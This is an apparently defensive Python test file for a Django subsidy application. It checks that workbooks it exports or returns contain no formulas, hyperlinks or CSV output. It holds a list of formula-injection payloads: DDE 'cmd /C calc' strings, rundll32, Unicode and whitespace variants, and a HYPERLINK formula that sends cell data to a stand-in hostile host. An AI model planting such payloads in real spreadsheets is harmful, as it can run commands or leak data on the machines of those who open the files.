"""No spreadsheet of ours holds a formula, whatever somebody typed."""

import ast
import io
from datetime import date
from pathlib import Path

import openpyxl
import pytest
from django.conf import settings
from hypothesis import given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from subsidies import documents
from tests.imports.spreadsheets import HEADING, JANSEN, make_xlsx
from tests.subsidies.test_documents import make_figures, make_header
from werv.ground.spreadsheets import new_workbook
from werv.imports.actions import rejects_workbook
from werv.imports.participants import Finding, read_participants

# After the list of OWASP on CSV injection, and what spreadsheet programs take for the same signs.
FORMULAS = (
    "=1+1", "=1+1;", "+1+1", "-1+1", "@SUM(1+1)*cmd|' /C calc'!A0", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0", "@cmd", '=HYPERLINK("https://kwaad.example?x="&A1,"klik")', '=WEBSERVICE("https://x")',
    "=IMPORTXML(CONCAT(\"https://x\",A1),\"//a\")", "=IMPORTDATA(\"x\")", "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "\t=1+1", "\r=1+1", "\n=1+1", "\0=1+1", " =1+1", "'=1+1", '"=1+1"', "＝1+1", "＋1", "－1", "＠SUM(1)", "{=1+1}",
    "=1+1\",\"x", ";=1+1", ",=1+1", "|=1+1", "%0A=1+1", "=2+5+cmd|' /C calc'!A0", "=rundll32|'URL.dll,Op'!A",
    "file:///etc/passwd", "https://kwaad.example", "mailto:a@b", "internal:Blad1!A1", "external:c:\\x.xlsx", "ftp://x",
)  # fmt: skip
TEXTS = st.one_of(st.sampled_from(FORMULAS), st.text(st.characters(exclude_categories=["Cs"]), max_size=40))
OUR_CODE = [
    path
    for folder in ("werv", "cases", "trajectories", "volunteers", "subsidies")
    for path in Path(settings.BASE_DIR, folder).rglob("*.py")
]


def check(content: bytes) -> set[str]:
    """No formula and no link in any cell; returns the texts."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} <= {"s", "n", "d", "b", "inlineStr"}
    assert not [cell for cell in cells if cell.hyperlink]
    assert not book.defined_names
    return {str(cell.value) for cell in cells}


def rejected(texts: list[str]) -> bytes:
    """A list in which every text stands in every column, handed back whole."""
    rows = [[*HEADING, *texts], *([text] * (len(HEADING) + len(texts)) for text in texts), [*JANSEN, *texts]]
    content = make_xlsx([[cell.replace("\0", "") for cell in row] for row in rows])
    parsed = read_participants(content, filename="lijst.xlsx", today=date(2026, 11, 22))
    findings = [Finding(number, texts[0], texts[0]) for number in range(2, len(rows) + 1)]
    return rejects_workbook(parsed, findings, content, "lijst.xlsx")


def test_rows_that_are_handed_back_hold_no_formula():
    texts = [text for text in FORMULAS if "\0" not in text]

    assert check(rejected(texts)) >= {"=1+1", "@cmd", "https://kwaad.example"}


@given(st.lists(TEXTS.filter(lambda text: text.isprintable() and text.strip()), min_size=1, max_size=4, unique=True))
@hypothesis_settings(max_examples=30)
def test_whatever_stands_in_a_list_is_handed_back_as_text(texts):
    check(rejected(texts))


@given(st.lists(TEXTS, min_size=3, max_size=3), st.booleans())
@hypothesis_settings(max_examples=30)
def test_whatever_a_grant_is_called_its_figures_hold_no_formula(texts, internal):
    title, label, partner = texts
    header = make_header(title=title)
    header["targets"][0].update(label=label, partner=partner)

    check(documents.workbook(make_figures(grant=title), header, internal=internal))


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_is_written_without_saying_so_stays_text(text):
    written = io.BytesIO()
    with new_workbook(written, strings_to_formulas=True, strings_to_urls=True) as book:
        book.add_worksheet().write(0, 0, text)

    check(written.getvalue())


def test_there_is_one_way_to_a_workbook_and_none_to_a_formula():
    for path in OUR_CODE:
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Import | ast.ImportFrom):
                names = {each.name for each in node.names} | {getattr(node, "module", None)}
                assert "xlsxwriter" not in names or path.name == "spreadsheets.py", path
            if isinstance(node, ast.Attribute):
                assert not node.attr.startswith(("write_formula", "write_array_formula", "write_url")), path
                assert node.attr not in {"write_dynamic_array_formula", "add_vba_project", "define_name"}, path


def test_nothing_goes_out_as_csv():
    """A CSV cannot say that a cell is text: whoever adds one has to escape it, and to change this test."""
    for path in OUR_CODE:
        names = {
            node.attr
            for node in ast.walk(ast.parse(path.read_text(encoding="utf-8")))
            if isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name) and node.value.id == "csv"
        }
        assert not names & {"writer", "DictWriter"}, path
